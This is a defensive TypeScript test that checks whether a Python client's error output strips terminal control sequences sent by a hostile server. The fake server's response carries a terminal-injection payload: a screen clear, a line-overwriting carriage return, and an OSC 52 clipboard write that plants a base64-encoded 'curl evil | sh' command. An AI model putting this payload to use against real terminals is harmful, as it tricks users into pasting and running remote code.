/**
 * The Python client puts a server's refusal into `NdsApiError`, and Python prints an uncaught exception's text raw
 * on the terminal (a script, a training job's log): a hostile server's message must reach it without its
 * terminal controls (an OSC 52 clipboard write, a hyperlink whose target is not what it shows, a CR).
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { runPython } from './support.js';

const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

describe('a hostile server\'s refusal in the Python client\'s exception text', { timeout: 60_000 }, () => {
  let hostile: http.Server;
  let url: string;
  before(async () => {
    hostile = http.createServer((_req, res) => {
      res.writeHead(403, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: 'forbidden\x1b[2J', message: 'refused\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\rall good' }));
    });
    await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
    url = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
  });
  after(() => new Promise<void>((r) => hostile.close(() => r())));

  it('an uncaught NdsApiError prints no control sequence of the server\'s', async () => {
    const run = await runPython(`from nds_client.client import Client\nClient(${JSON.stringify(url)}, retries=0).list_recordings()\n`);
    assert.notEqual(run.code, 0);
    assert.match(run.stderr, /NdsApiError/);
    assert.doesNotMatch(run.stderr, TERMINAL_CONTROL, `printed: ${JSON.stringify(run.stderr.slice(-300))}`);
  });
});
